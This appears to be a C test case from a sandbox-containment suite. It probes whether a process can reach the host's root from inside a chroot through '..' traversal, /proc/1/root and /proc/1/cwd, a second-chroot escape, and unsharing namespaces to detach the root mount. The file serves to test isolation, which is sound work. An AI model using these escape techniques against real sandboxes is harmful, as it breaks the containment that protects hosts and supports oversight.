// row: F8
// what: the host's root is reached from inside: "..", /proc/1/root, a second chroot, an unmounted root
// control: naive
// kernel: dots proc-1-root mount-above proc-1-cwd: chroot alone stops these
#include "attack.h"

static char secret[4096];
void pilot(void) {
    put(in_dir("secret"), SECRET);
    ready("pid=%d", getpid());
}
static long look(const char *prefix) {
    char path[8192];
    snprintf(path, sizeof path, "%s%s", prefix, secret);
    return holds(path, SECRET) ? 0 : -1;
}
static long dots(void) { return look("/../../../../../../../../../.."); }
static long proc_root(void) { return look("/proc/1/root"); }
static long proc_cwd(void) { return look("/proc/1/cwd/../../../../../../.."); }
static long chroot_again(void) {
    if (chdir("/tmp")) return -1;
    mkdir("deeper", 0700);
    if (chroot("deeper")) {
        // Perhaps in a user namespace of its own.
        if (unshare(CLONE_NEWUSER) || chroot("deeper")) return -1;
    }
    for (int i = 0; i < 64; i++) if (chdir("..")) return -1;
    return chroot(".") ? -1 : look("");
}
static long below(void) {
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS)) return -1;
    umount2("/", MNT_DETACH);
    return look("") ? look("/../../..") : 0;
}
void attack(void) {
    snprintf(secret, sizeof secret, "%s", in_dir("secret"));
    apart("dots", dots);
    apart("proc-1-root", proc_root);
    apart("proc-1-cwd", proc_cwd);
    apart("second-chroot", chroot_again);
    apart("mount-above", below);
    judge();
}
